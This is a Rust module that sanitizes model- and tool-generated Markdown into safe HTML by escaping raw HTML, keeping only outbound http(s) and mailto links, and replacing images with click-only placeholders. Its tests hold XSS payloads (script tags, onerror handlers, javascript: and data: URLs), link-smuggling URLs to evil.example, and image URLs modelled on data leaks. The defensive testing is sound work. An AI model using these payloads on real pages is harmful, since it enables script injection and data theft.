//! Markdown from models and tools to HTML that is safe to insert: raw HTML is shown as text,
//! images are not loaded, and only links that leave the app stay links.

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

use crate::origin::Origin;

/// The Markdown the views draw: CommonMark with tables and strikethrough.
pub const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH);

/// `page_origin` is the app's own origin (`https://user.github.io`): links back into it lose
/// their link, like relative ones, since model and tool text has no business opening the
/// app's own files.
pub fn render_markdown(text: &str, page_origin: &str) -> String {
    let is_safe_url = |url: &str| is_link_out(url, page_origin);
    let mut dropped_links = Vec::new(); // per open link: was it dropped?
    let mut image_links = Vec::new(); // per open image: is it shown as a link?
    let events = markers_as_text(text)
        .into_iter()
        .flat_map(|ev| -> Vec<Event> {
            let one = |e| vec![e];
            match ev {
                Event::Html(raw) | Event::InlineHtml(raw) => one(Event::Text(raw)),
                Event::Start(Tag::Link {
                    link_type,
                    dest_url,
                    title,
                    id,
                }) => {
                    let unsafe_link = !is_safe_url(&dest_url);
                    dropped_links.push(unsafe_link);
                    if unsafe_link {
                        vec![]
                    } else {
                        one(Event::Start(Tag::Link {
                            link_type,
                            dest_url,
                            title,
                            id,
                        }))
                    }
                }
                Event::End(TagEnd::Link) => {
                    if dropped_links.pop().unwrap_or(false) {
                        vec![]
                    } else {
                        one(Event::End(TagEnd::Link))
                    }
                }
                // An image would be fetched by the browser on its own, possibly to leak data in its
                // URL: it becomes a placeholder naming the host, a link that opens it only on click.
                Event::Start(Tag::Image {
                    link_type,
                    dest_url,
                    title,
                    id,
                }) => {
                    let label = Event::Text(CowStr::from(format!(
                        "[image from {}: ",
                        host_of(&dest_url)
                    )));
                    let linked = is_safe_url(&dest_url);
                    image_links.push(linked);
                    if linked {
                        vec![
                            Event::Start(Tag::Link {
                                link_type,
                                dest_url,
                                title,
                                id,
                            }),
                            label,
                        ]
                    } else {
                        vec![label]
                    }
                }
                Event::End(TagEnd::Image) => {
                    let close = Event::Text(CowStr::Borrowed("]"));
                    if image_links.pop().unwrap_or(false) {
                        vec![close, Event::End(TagEnd::Link)]
                    } else {
                        vec![close]
                    }
                }
                other => one(other),
            }
        });
    let mut out = String::with_capacity(text.len() + text.len() / 2);
    html::push_html(&mut out, events);
    // Every anchor here came from a markdown link (raw HTML was escaped): open them apart.
    out.replace(
        "<a href=",
        "<a target=\"_blank\" rel=\"noopener noreferrer\" href=",
    )
}

/// The events of `text`, with a list of only empty items, or an empty heading, given back as
/// the text it was written as: an answer `2.`, `1990.`, `- ` or `#` is a number or a mark, not
/// an empty list a reader cannot select or a screen reader announces as a blank item.
fn markers_as_text(text: &str) -> Vec<Event<'_>> {
    let parsed: Vec<(Event, std::ops::Range<usize>)> =
        Parser::new_ext(text, OPTIONS).into_offset_iter().collect();
    let mut out = Vec::with_capacity(parsed.len());
    let mut i = 0;
    while i < parsed.len() {
        let (event, range) = &parsed[i];
        let end = match event {
            Event::Start(Tag::List(_)) => empty_list_end(&parsed, i),
            Event::Start(Tag::Heading { .. }) => {
                matches!(parsed.get(i + 1), Some((Event::End(TagEnd::Heading(_)), _)))
                    .then_some(i + 1)
            }
            _ => None,
        };
        match end {
            Some(end) => {
                out.push(Event::Start(Tag::Paragraph));
                out.push(Event::Text(CowStr::Borrowed(text[range.clone()].trim())));
                out.push(Event::End(TagEnd::Paragraph));
                i = end + 1;
            }
            None => {
                out.push(event.clone());
                i += 1;
            }
        }
    }
    out
}

/// Where the list starting at `start` ends, if its items hold nothing.
fn empty_list_end(parsed: &[(Event, std::ops::Range<usize>)], start: usize) -> Option<usize> {
    for (i, (event, _)) in parsed.iter().enumerate().skip(start + 1) {
        match event {
            Event::Start(Tag::Item) | Event::End(TagEnd::Item) => {}
            Event::End(TagEnd::List(_)) => return Some(i),
            _ => return None,
        }
    }
    None
}

/// Only absolute http(s) links to another origin, and mailto links, are kept: an allowlist.
/// Relative, fragment and `//host` links, other schemes, and URLs a browser might read
/// differently from `Origin::of` (user names, backslashes, whitespace, an IPv4 address not
/// written as four decimal numbers) lose their link.
fn is_link_out(url: &str, page_origin: &str) -> bool {
    if let Some(address) = url.strip_prefix("mailto:") {
        return !address.is_empty()
            && !address.chars().any(|c| c.is_whitespace() || c.is_control());
    }
    Origin::of(url).is_some_and(|o| o.to_string() != page_origin)
}

fn host_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
    if host.is_empty() {
        "an unknown host".into()
    } else {
        host.chars().take(80).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = "https://arena.example.org";

    fn md(text: &str) -> String {
        render_markdown(text, PAGE)
    }

    #[test]
    fn links_back_into_the_app_are_not_links() {
        for url in [
            "search-frame.html#https://evil.example/x.js",
            "./search-frame.html#http://127.0.0.1:9/evil.js",
            "/search-frame.html",
            "#embed",
            "?embed=1",
            "//evil.example/x",
            "https://arena.example.org/search-frame.html#https://evil.example/x.js",
            "HTTPS://ARENA.example.org:443/",
            "http://evil.example@arena.example.org/",
            "https:\\\\evil.example/",
            "mailto:",
        ] {
            let out = md(&format!("[source]({url})"));
            assert!(!out.contains("<a"), "{url}: {out}");
            assert!(out.contains("source"), "the text stays: {out}");
        }
        assert!(md("[ok](https://en.wikipedia.org/wiki/X)").contains("<a "));
        assert!(
            md("[ok](http://arena.example.org:8080/)").contains("<a "),
            "another origin"
        );
        assert!(md("[mail](mailto:someone@example.org)").contains("<a "));
        assert!(md("<https://en.wikipedia.org/wiki/X>").contains("<a "));
    }

    #[test]
    fn long_or_odd_schemes_lose_their_link() {
        for url in [
            "ms-settings-connectabledevices:x",
            "x-apple-systempreferences:x",
            "java\tscript:alert(1)",
        ] {
            let out = md(&format!("[a]({url})"));
            assert!(!out.contains("<a"), "{url}: {out}");
        }
        assert!(md("[a](https://example.org/a:b)").contains("<a "));
        assert!(!md("[a](/docs/x:y)").contains("<a "), "relative");
    }

    #[test]
    fn images_become_placeholders_that_open_only_on_click() {
        let out = md("![chart](http://127.0.0.1:9/leak?d=secret)");
        assert!(!out.contains("<img"), "{out}");
        assert!(out.contains("[image from 127.0.0.1:9: chart]"), "{out}");
        assert!(out.contains("<a target=\"_blank\" rel=\"noopener noreferrer\" href=\"http://127.0.0.1:9/leak?d=secret\">"), "{out}");
        let out = md("![x](javascript:alert(1))");
        assert!(!out.contains("<a") && !out.contains("<img"), "{out}");
    }

    #[test]
    fn formats_markdown() {
        let h = md("**bold** and `code`\n\n- a\n- b");
        assert!(h.contains("<strong>bold</strong>"));
        assert!(h.contains("<code>code</code>"));
        assert!(h.contains("<li>a</li>"));
    }

    #[test]
    fn an_answer_that_is_only_a_number_or_a_mark_is_its_text() {
        for (answer, shown) in [
            ("2.", "<p>2.</p>\n"),
            ("1990.", "<p>1990.</p>\n"),
            ("1990.\n", "<p>1990.</p>\n"),
            ("- ", "<p>-</p>\n"),
            ("#", "<p>#</p>\n"),
            ("##   ", "<p>##</p>\n"),
            ("3)", "<p>3)</p>\n"),
            ("* \n* ", "<p>* \n*</p>\n"),
        ] {
            assert_eq!(md(answer), shown, "{answer:?}");
        }
        // Marks inside text stay what they are: a list with items, a heading with words.
        assert_eq!(md("2. Paris"), "<ol start=\"2\">\n<li>Paris</li>\n</ol>\n");
        assert_eq!(md("# Paris"), "<h1>Paris</h1>\n");
        assert_eq!(md("It is\n\n2."), "<p>It is</p>\n<p>2.</p>\n");
        assert_eq!(
            md("1. a\n2.\n3. c"),
            "<ol>\n<li>a</li>\n<li></li>\n<li>c</li>\n</ol>\n"
        );
        // Its text is escaped like any other: a list whose only item defines a link (no
        // event of its own) is empty, and given back as written.
        assert_eq!(md("- [a]: <script>"), "<p>- [a]: &lt;script&gt;</p>\n");
    }

    #[test]
    fn raw_html_is_text() {
        let h = md("<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)> there");
        assert!(!h.contains("<script"), "{h}");
        assert!(!h.contains("<img"), "{h}");
        assert!(h.contains("&lt;script&gt;"), "{h}");
        assert!(h.contains("&lt;img src=x onerror=alert(1)&gt;"), "{h}");
    }

    #[test]
    fn dangerous_links_lose_their_href() {
        for url in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,x",
            "vbscript:x",
        ] {
            let h = md(&format!("[click]({url})"));
            assert!(!h.contains("href"), "{url}: {h}");
            assert!(h.contains("click"));
        }
        let h = md("[ok](https://example.org/a)");
        assert!(h.contains(r#"<a target="_blank" rel="noopener noreferrer" href="https://example.org/a">ok</a>"#), "{h}");
    }

    #[test]
    fn images_are_not_loaded() {
        let h = md("![secret](http://127.0.0.1:9/leak?d=abc)");
        assert!(!h.contains("<img"), "{h}");
        assert!(h.contains("[image from 127.0.0.1:9: secret]"), "{h}");
    }
}
